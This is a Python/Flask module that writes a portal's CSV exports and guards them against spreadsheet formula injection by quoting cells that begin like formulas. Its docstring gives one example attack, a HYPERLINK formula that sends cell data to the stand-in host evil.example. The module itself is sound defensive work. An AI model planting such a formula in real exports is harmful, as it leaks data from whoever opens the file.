"""The CSV files the portal hands out, written one way for every export.

Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula, and some also after a leading tab or carriage return: a title
such as ``=HYPERLINK("http://evil.example/?x="&A1,"x")`` typed by a participant would run on
the secretariat's computer when the export is opened. Every text cell that starts with one of
these characters is written with a single quote in front (OWASP's "CSV injection" advice), so
the spreadsheet shows it as text. Numbers the portal itself writes (counts, round numbers)
stay numbers.

The file starts with a UTF-8 byte order mark, without which Excel reads accents and Arabic as
Windows-1252.
"""

import csv
import io
from collections.abc import Iterable

from flask import Response

#: What a spreadsheet may take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

BYTE_ORDER_MARK = "\ufeff"


def defused(cell: object) -> object:
    """The cell as a spreadsheet shows it as text: a text starting like a formula gets a
    leading single quote; anything else (numbers, other text) is unchanged."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def csv_text(header: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
    """The header and the rows as CSV text, with its byte order mark and every cell
    defused."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([defused(cell) for cell in header])
    writer.writerows([defused(cell) for cell in row] for row in rows)
    return BYTE_ORDER_MARK + buffer.getvalue()


def csv_download(filename: str, header: Iterable[object],
                 rows: Iterable[Iterable[object]]) -> Response:
    """A CSV file to download, named ``filename``."""
    return Response(csv_text(header, rows), mimetype="text/csv", headers={
        "Content-Disposition": f'attachment; filename="{filename}"'})
